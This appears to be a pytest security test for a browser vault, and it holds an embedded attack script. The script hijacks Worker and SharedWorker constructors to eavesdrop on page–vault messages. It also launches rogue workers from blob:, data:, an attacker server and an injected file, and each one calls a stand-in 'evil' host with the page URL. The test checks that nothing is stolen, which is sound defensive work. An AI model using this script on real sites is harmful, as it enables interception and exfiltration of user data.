"""A script that runs before the page's own replaces the constructors of workers, reads all messages, and starts its own
workers in place of the vault: from a blob: URL, a data: URL, its own server, and a file of the site.
"""

import pytest

BEFORE = """(known) => {
  const { note } = evil, { createObjectURL } = URL, started = [];
  const own = `
    const say = (...words) => { (globalThis.port || globalThis).postMessage(words); };
    globalThis.onconnect = (event) => { globalThis.port = event.ports[0]; port.start(); };
    fetch("${known.evil}/worker?" + encodeURIComponent(location.href)).catch(() => {});`;
  const urls = [
    createObjectURL(new Blob([own], { type: "text/javascript" })), `data:text/javascript,${encodeURIComponent(own)}`,
    `${known.evil}/worker.js`, "/injected.js",
  ];
  if (globalThis.trustedTypes) evil.hook(TrustedTypePolicyFactory.prototype, "createPolicy");
  for (const kind of ["SharedWorker", "Worker"]) {
    const real = globalThis[kind];
    if (!real) continue;
    globalThis[kind] = class extends real {
      constructor(url, options) {
        super(url, options);
        const port = this.port || this, post = port.postMessage.bind(port);
        note(String(url), options);
        port.addEventListener("message", (event) => note("vault says", event.data));
        port.postMessage = (...all) => { note("page says", ...all); return post(...all); };
      }
    };
    for (const url of urls) {
      try {
        const worker = new real(url, { name: "gossamer-vault", type: "classic" }), port = worker.port || worker;
        port.onmessage = (event) => note(event.data);
        started.push(worker);
      } catch (error) { note(String(error)); }
    }
  }
}"""
REMAINS = "hears what the page and the vault say to each other, and starts no worker but those of the site's own files"


@pytest.mark.quick
@pytest.mark.standards("ST-05")
def test_ours(assault, ours, collector):
    outcome = assault(ours)
    assert "page says" in outcome.loot and "vault says" in outcome.loot
    assert outcome.stolen == ()
    assert [heard.url for heard in collector.heard if heard.url.startswith("/worker?")] == []
